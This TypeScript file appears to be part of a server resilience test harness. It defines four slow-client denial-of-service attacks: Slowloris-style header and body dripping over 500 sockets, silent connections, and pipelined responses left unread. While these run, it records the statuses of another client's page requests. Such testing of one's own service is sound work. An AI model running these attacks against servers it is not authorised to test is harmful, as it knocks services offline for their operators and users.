import { once } from 'node:events';
import { connect, type Socket } from 'node:net';
import { setTimeout as pause } from 'node:timers/promises';
import { type Attack, count, send, type Target } from './target.ts';

const connections = 500;
/** How long the slow clients stay connected, in ms. */
const staysMs = 10_000;

async function open({ url }: Target, begin: string): Promise<Socket[]> {
  const sockets = Array.from({ length: connections }, () => connect(Number(url.port || 80), url.hostname));
  for (const socket of sockets) socket.on('error', () => {});
  await Promise.all(sockets.map((socket) => Promise.race([once(socket, 'connect'), once(socket, 'close')])));
  for (const socket of sockets) socket.write(begin);
  return sockets;
}

/** Keeps connections busy with one byte a second, while another client requests a page. */
async function dripped(target: Target, begin: string, drop: string) {
  const sockets = await open(target, begin);
  const statuses: number[] = [];
  for (let waited = 0; waited < staysMs; waited += 1_000) {
    for (const socket of sockets) if (socket.writable) socket.write(drop);
    statuses.push(await send(target, { method: 'GET', path: '/' }));
    await pause(1_000);
  }
  for (const socket of sockets) socket.destroy();
  return count(statuses);
}

/** Clients that never finish. The statuses are those of another client's page requests in the meantime. */
export const slowClients: Attack[] = [
  {
    name: 'slow: headers, a byte a second',
    run: (target) => dripped(target, 'GET / HTTP/1.1\r\nHost: a\r\nX-A: ', 'a'),
  },
  {
    name: 'slow: a body, a byte a second',
    run: (target) =>
      dripped(
        target,
        'POST /api/v1/chat HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\nContent-Length: 100000\r\n\r\n',
        ' ',
      ),
  },
  { name: 'slow: connections that say nothing', run: (target) => dripped(target, '', '') },
  {
    name: 'slow: answers that nobody reads',
    async run(target) {
      const sockets = await open(target, 'GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n'.repeat(50));
      for (const socket of sockets) socket.pause();
      const statuses: number[] = [];
      for (let asked = 0; asked < 10; asked += 1) statuses.push(await send(target, { method: 'GET', path: '/' }));
      for (const socket of sockets) socket.destroy();
      return count(statuses);
    },
  },
];
